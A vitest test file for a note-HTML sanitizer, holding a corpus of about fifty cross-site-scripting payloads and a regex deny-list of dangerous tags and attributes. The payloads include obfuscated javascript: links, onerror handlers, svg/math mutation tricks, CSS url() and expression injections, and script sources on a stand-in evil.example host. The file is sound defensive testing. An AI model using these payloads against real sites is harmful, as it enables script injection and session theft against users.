import { describe, expect, it } from 'vitest';
import { cleanStyle, sanitizeNoteHtml } from './sanitize-html';

/** Markup that must never reach a browser from a stored note. */
const DANGEROUS = [
  /<\s*script/i,
  /<\s*style/i,
  /<\s*(iframe|frame|object|embed|applet|svg|math|form|input|button|meta|base|link|img|video|audio|source|textarea|select|template|body|html)/i,
  /\son[a-z]+\s*=/i,
  /javascript\s*:/i,
  /vbscript\s*:/i,
  /data\s*:/i,
  /expression\s*\(/i,
  /url\s*\(/i,
  /var\s*\(/i,
  /\sclass\s*=/i,
  /\ssrc\s*=/i,
  /\sformaction\s*=/i,
  /\shttp-equiv\s*=/i,
];

const ALLOWED_TAGS = new Set(['p', 'br', 'h1', 'h2', 'h3', 'ul', 'ol', 'li', 'blockquote', 'strong', 'b', 'em', 'i', 'u', 's', 'code', 'pre', 'hr', 'a', 'span', 'mark']);
const ALLOWED_ATTRIBUTES = new Set(['href', 'target', 'rel', 'style', 'data-color']);

/** Nothing dangerous anywhere, and every tag and attribute that is left is on the allow-list. */
function expectSafe(out: string) {
  for (const re of DANGEROUS) expect(out, `${re} in ${out}`).not.toMatch(re);
  for (const [, name, attrs] of out.matchAll(/<\/?([a-z0-9-]+)([^>]*)>/gi)) {
    expect(ALLOWED_TAGS.has(name.toLowerCase()), `<${name}> in ${out}`).toBe(true);
    for (const [, attr] of attrs.matchAll(/\s([^\s=/]+)=/g)) expect(ALLOWED_ATTRIBUTES.has(attr), `${attr} in ${out}`).toBe(true);
  }
  // Any other '<' is text, escaped.
  expect(out.replace(/<\/?([a-z0-9-]+)([^>]*)>/gi, '')).not.toContain('<');
}

const XSS_CORPUS: Array<[string, string]> = [
  ['script tag', '<p>Hi</p><script>alert(1)</script>'],
  ['script with src', '<script src="https://evil.example/x.js"></script><p>ok</p>'],
  ['upper-case script', '<SCRIPT>alert(1)</SCRIPT>'],
  ['split script', '<scr<script>ipt>alert(1)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror quoted', '<p><img src="x" onerror="alert(1)"></p>'],
  ['javascript href', '<a href="javascript:alert(1)">click</a>'],
  ['javascript href with tab entity', '<a href="jav&#x09;ascript:alert(1)">click</a>'],
  ['javascript href with newline entity', '<a href="jav&#x0A;ascript:alert(1)">click</a>'],
  ['javascript href with encoded letters', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['javascript href hex encoded colon', '<a href="javascript&#x3A;alert(1)">x</a>'],
  ['javascript href with leading spaces and case', '<a href="  JaVaScRiPt:alert(1)">x</a>'],
  ['javascript href with control char', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['vbscript href', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['protocol-relative href', '<a href="//evil.example/">x</a>'],
  ['anchor event handler', '<a href="https://example.com" onclick="alert(1)" onmouseover="alert(1)">x</a>'],
  ['svg onload', '<svg onload=alert(1)><circle r="10"/></svg>'],
  ['svg with script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['math', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'],
  ['math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['style tag', '<style>body{background:url(javascript:alert(1))}</style><p>x</p>'],
  ['style attribute url', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['span background url', '<span style="background-color:url(javascript:alert(1))">x</span>'],
  ['span background image', '<span style="background-image:url(https://evil.example/t.gif)">x</span>'],
  ['span expression', '<span style="color:expression(alert(1))">x</span>'],
  ['span var()', '<span style="color: var(--x)">x</span>'],
  ['span semicolon injection', '<span style="color: red; background: url(javascript:alert(1))">x</span>'],
  ['span escaped url', '<span style="color: \\75 rl(javascript:alert(1))">x</span>'],
  ['span comment', '<span style="color: red/**/;background:u/**/rl(x)">x</span>'],
  ['mark data-color injection', '<mark data-color="red&quot; onmouseover=&quot;alert(1)" style="background-color: url(x)">x</mark>'],
  ['form', '<form action="https://evil.example"><input name="a"><button formaction="javascript:alert(1)">go</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base', '<base href="javascript:alert(1)//"><a href="/x">x</a>'],
  ['object', '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ['embed', '<embed src="javascript:alert(1)">'],
  ['img data url', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['video', '<video><source onerror="alert(1)"></video>'],
  ['class and id', '<p class="x" id="y" data-x="1">x</p>'],
  ['link tag', '<link rel="stylesheet" href="javascript:alert(1)">'],
  ['body onload', '<body onload="alert(1)"><p>x</p></body>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['unclosed attribute', '<p><a href="https://x" title="a\' onmouseover=alert(1) x=\'">x</a></p>'],
  ['comment trick', '<!--<img src="--><img src=x onerror=alert(1)//">'],
  ['cdata trick', '<![CDATA[<script>alert(1)</script>]]>'],
  ['textarea breakout', '<textarea><script>alert(1)</script></textarea>'],
];

describe('sanitizeNoteHtml', () => {
  it.each(XSS_CORPUS)('removes everything dangerous: %s', (_name, input) => {
    expectSafe(sanitizeNoteHtml(input));
  });

  it('removes script, style, iframe, svg, math, object and embed with their contents', () => {
    const out = sanitizeNoteHtml(
      '<p>a</p><script>secret1</script><style>secret2</style><iframe>secret3</iframe><svg><g><text>secret4</text></g></svg>' +
        '<math><mi>secret5</mi></math><object>secret6</object><p>b</p>',
    );
    expect(out).not.toMatch(/secret/);
    expect(out).toContain('<p>a</p>');
  });

  it('keeps the text of harmless unknown elements and drops their tags', () => {
    expect(sanitizeNoteHtml('<div><p>Kept <font color="red">words</font></p></div>')).toBe('<p>Kept words</p>');
    expect(sanitizeNoteHtml('<form><p>Inside a form</p></form>')).toBe('<p>Inside a form</p>');
  });

  it('keeps the editor output unchanged: headings, lists, quote, marks, colour, highlight, rule, code', () => {
    // Void elements come out as <br /> and <hr />; the editor parses either form the same way.
    const editor = [
      '<h1>Cells</h1>',
      '<h2>Parts</h2>',
      '<h3>Nucleus</h3>',
      '<p>The <strong>nucleus</strong> holds <em>DNA</em>, <u>genes</u> and <s>nothing</s> else; <b>b</b> <i>i</i>.</p>',
      '<ul><li><p>Membrane</p></li><li><p>Cytoplasm</p></li></ul>',
      '<ol><li><p>First</p></li><li><p>Second</p></li></ol>',
      '<blockquote><p>Omnis cellula e cellula</p></blockquote>',
      '<p><span style="color: #dc2626">red</span> <span style="color: rgb(37, 99, 235)">blue</span> <span style="color: green">green</span></p>',
      '<p><mark data-color="#fef08a" style="background-color: #fef08a; color: inherit">highlighted</mark> <mark>plain</mark></p>',
      '<p>Line one<br />line two</p>',
      '<hr />',
      '<p><code>x = 2</code></p>',
      '<pre><code>let x = 1;</code></pre>',
      '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/a?b=1&amp;c=2">a safe link</a></p>',
      '<p><a href="mailto:teacher@example.com" rel="noopener noreferrer nofollow">mail</a></p>',
      '<p>5 &lt; 7 &amp;&amp; "quotes" \'apostrophes\' café 数学</p>',
    ].join('');
    expect(sanitizeNoteHtml(editor)).toBe(editor);
    expect(sanitizeNoteHtml('<p>a<br>b</p><hr>')).toBe('<p>a<br />b</p><hr />');
  });

  it('forces rel on links and keeps target only when it is _blank', () => {
    expect(sanitizeNoteHtml('<a href="https://example.com" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://example.com" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(sanitizeNoteHtml('<a href="http://example.com" target="_blank">x</a>')).toBe(
      '<a href="http://example.com" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    // A relative link has no meaning inside a note: its href goes, its text stays.
    expect(sanitizeNoteHtml('<a href="/settings" rel="x">x</a>')).toBe('<a>x</a>');
  });

  it('keeps only the safe colour declarations of a style', () => {
    expect(sanitizeNoteHtml('<span style="color: red; background-image: url(x)">x</span>')).toBe('<span style="color: red">x</span>');
    expect(sanitizeNoteHtml('<span style="font-size: 90px; position: fixed">x</span>')).toBe('<span>x</span>');
    expect(sanitizeNoteHtml('<p style="color: red">x</p>')).toBe('<p>x</p>');
    expect(sanitizeNoteHtml('<mark data-color="url(x)" style="background-color: #bbf7d0">x</mark>')).toBe(
      '<mark style="background-color: #bbf7d0">x</mark>',
    );
  });

  it('is idempotent', () => {
    for (const [, input] of XSS_CORPUS) {
      const once = sanitizeNoteHtml(input);
      expect(sanitizeNoteHtml(once)).toBe(once);
    }
  });
});

describe('cleanStyle', () => {
  it.each([
    ['color: #abc', 'color: #abc'],
    ['color:#AABBCC;', 'color:#AABBCC;'],
    ['background-color: rgba(1, 2, 3, 0.5)', 'background-color: rgba(1, 2, 3, 0.5)'],
    ['background-color: rgb(1 2 3 / 50%)', 'background-color: rgb(1 2 3 / 50%)'],
    ['COLOR: Red', 'COLOR: Red'],
  ])('keeps %s', (input, expected) => {
    expect(cleanStyle(input)).toBe(expected);
  });

  it.each([
    'color: url(javascript:alert(1))',
    'color: expression(alert(1))',
    'color: var(--a)',
    'color: "red"',
    'color: red !important',
    'color: r\\65 d',
    'color: #12',
    'color: rgb(1,2,3) url(x)',
    'color: hsl(0 0% 0%)',
    'background: red',
    'behavior: url(x.htc)',
    '-moz-binding: url(x)',
  ])('drops %s', (input) => {
    expect(cleanStyle(input)).toBeUndefined();
  });
});
